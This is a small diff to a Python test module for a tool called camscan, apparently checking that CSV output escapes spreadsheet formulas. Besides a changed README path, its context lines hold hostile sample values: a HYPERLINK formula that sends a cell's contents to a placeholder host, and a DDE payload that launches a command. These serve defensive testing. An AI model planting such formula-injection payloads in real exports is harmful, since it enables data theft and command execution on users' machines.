@@ -14,7 +14,7 @@ from camscan.models import Evidence
 from camscan.output.csv import FORMULA_START, PROFILES, csv_text, escape_cell
 from camscan.output.document import build_document
 
-README = Path(__file__).resolve().parents[2] / "camscan" / "output" / "README.md"
+README = Path(__file__).resolve().parents[2] / "docs" / "outputs.md"
 HOSTILE = {
     "model": "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
     "brand": "+cmd|' /C calc'!A0",
